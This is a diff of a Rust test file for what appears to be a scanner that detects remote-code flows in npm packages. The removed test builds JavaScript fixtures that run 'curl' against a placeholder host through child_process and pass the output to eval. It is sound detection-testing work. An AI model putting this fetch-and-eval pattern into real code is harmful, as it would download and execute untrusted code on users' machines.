@@ -266,22 +266,3 @@ fn a_text_that_another_file_puts_together_is_read_to_its_end() {
     let flows = found(npm(&a, i)).flows;
     assert!(flows.iter().any(is_remote_code));
 }
-
-#[test]
-fn a_function_that_is_not_known_gives_no_other_part_of_the_object_that_it_is_called_of() {
-    let run = |call: &str, a: &str| {
-        let text = "require('child_process').execSync('curl https://c.invalid/b').toString()";
-        let entries = npm(
-            &a.replace("TEXT", text),
-            &format!("const a = require('./a'); require('./c')(a); eval({call})"),
-        );
-        let found = found(entries);
-        found.flows.iter().any(is_remote_code)
-    };
-    // Another file puts `f` there; it is nothing of what stands in `a.js`.
-    let object = "const api = { o: 1 }; for (const k of Object.keys(api)) { api[k] = TEXT } module.exports = api";
-    assert!(!run("a.f('1')", object));
-    assert!(run("a.o", object));
-    // A method of data gives the data.
-    assert!(run("a.trim()", "module.exports = TEXT"));
-}
